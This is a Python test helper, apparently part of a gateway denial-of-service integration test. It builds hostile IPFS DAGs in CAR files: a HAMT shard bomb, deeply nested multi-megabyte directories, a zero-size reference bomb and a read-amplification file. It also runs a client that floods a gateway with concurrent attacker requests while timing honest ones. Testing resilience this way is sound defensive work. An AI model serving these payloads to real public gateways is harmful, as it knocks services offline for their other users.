#!/usr/bin/env python3
"""it_gateway_dos.py — hostile DAGs and clients for it_gateway_dos.sh.

Builds CARv1 files of DAGs no importer makes, block by block (dag-pb and
UnixFS encoded here by hand), and runs the clients that need to time
requests against each other:

  bomb OUT            a HAMT whose shards all point at one child shard
  nested OUT DEPTH    DEPTH nested ~2 MiB directories: d/d/.../d/f.txt
  zerobomb OUT        a 2-byte file of 16^40 zero-size references
  amplify OUT         a 30000-byte file whose every byte is read through
                      its own 1.9 MiB node
  carcheck FILE       "blocks distinct" of a CAR (its sections)
  race N ATTACK HONEST...  N attacker GETs in flight, then each HONEST
                      request (METHOD:URL); prints how many attackers had
                      finished when the last honest one did, and the
                      statuses
Each prints the root CID where it builds one.
"""
import sys, threading, time, urllib.request


from dagbuild import Car, cid_str, cid_v1, field, pbnode, unixfs, varint  # noqa: F401


def bomb(out):
    car = Car()
    leaf = car.add(0x55, b"x")
    shard = car.pb([(leaf, "%02Xentry%d" % (i, i), 1) for i in range(4)],
                   unixfs(5, b"\x0f", fanout=256))
    for _ in range(7):
        shard = car.pb([(shard, "%02X" % i, 1) for i in range(256)],
                       unixfs(5, b"\xff" * 32, fanout=256))
    car.write(out, shard)


def nested(out, depth):
    car = Car()
    leaf = car.add(0x55, b"bottom\n")
    filler = [(leaf, "filler%05d-%s" % (i, "x" * 8), 7) for i in range(29000)]
    cur = car.pb([(leaf, "f.txt", 7)], unixfs(1))
    for level in range(depth):
        # distinct blocks: the filler names carry the level
        links = [(c, n + str(level), s) for c, n, s in filler]
        cur = car.pb(links + [(cur, "d", 1)], unixfs(1))
    car.write(out, cur)


def zerobomb(out):
    car = Car()
    c = car.pb([], unixfs(2, filesize=0))
    for level in range(40):
        data = b"ab" if level == 39 else None
        c = car.pb([(c, "", 0)] * 16,
                   unixfs(2, data, filesize=2 if data else 0,
                          blocksizes=[0] * 16))
    car.write(out, c)


def amplify(out):
    car = Car()
    empty = car.add(0x55, b"")
    fat = car.pb([(empty, "", 0)] * 30000,
                 unixfs(2, b"x", filesize=1, blocksizes=[0] * 30000))
    root = car.pb([(fat, "", 1)] * 30000,
                  unixfs(2, filesize=30000, blocksizes=[1] * 30000))
    car.write(out, root)


def carcheck(path):
    data = open(path, "rb").read()

    def rv(p):
        n = s = 0
        while True:
            b = data[p]
            n |= (b & 0x7F) << s
            p += 1
            s += 7
            if not b & 0x80:
                return n, p

    n, p = rv(0)
    p += n
    cids = []
    while p < len(data):
        n, p = rv(p)
        # CIDv1 sha2-256: 36 bytes (the only kind these tests make)
        cids.append(data[p:p + 36])
        p += n
    print(len(cids), len(set(cids)))


def race(n, attack, honest):
    done = []  # (kind, status) in order of completion
    lock = threading.Lock()

    def get(kind, method, url):
        try:
            req = urllib.request.Request(url, method=method,
                                         data=b"" if method == "POST" else None)
            with urllib.request.urlopen(req, timeout=300) as r:
                r.read()
                st = r.status
        except urllib.error.HTTPError as e:
            st = e.code
        except Exception as e:  # noqa: BLE001 - reported, not hidden
            st = "error %s" % e
        with lock:
            done.append((kind, st))

    ts = [threading.Thread(target=get, args=("attack", "GET", attack))
          for _ in range(n)]
    for t in ts:
        t.start()
    time.sleep(0.5)  # let the attackers reach the daemon first
    hs = []
    for h in honest:
        m, u = h.split(":", 1)
        t = threading.Thread(target=get, args=("honest", m, u))
        t.start()
        hs.append(t)
    for t in hs + ts:
        t.join()
    last = max(i for i, (k, _) in enumerate(done) if k == "honest")
    before = sum(1 for k, _ in done[:last] if k == "attack")
    statuses = sorted(set(str(s) for _, s in done))
    print(before, " ".join(statuses))


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "bomb":
        bomb(args[0])
    elif cmd == "nested":
        nested(args[0], int(args[1]))
    elif cmd == "zerobomb":
        zerobomb(args[0])
    elif cmd == "amplify":
        amplify(args[0])
    elif cmd == "carcheck":
        carcheck(args[0])
    elif cmd == "race":
        race(int(args[0]), args[1], args[2:])
    else:
        sys.exit("unknown command " + cmd)
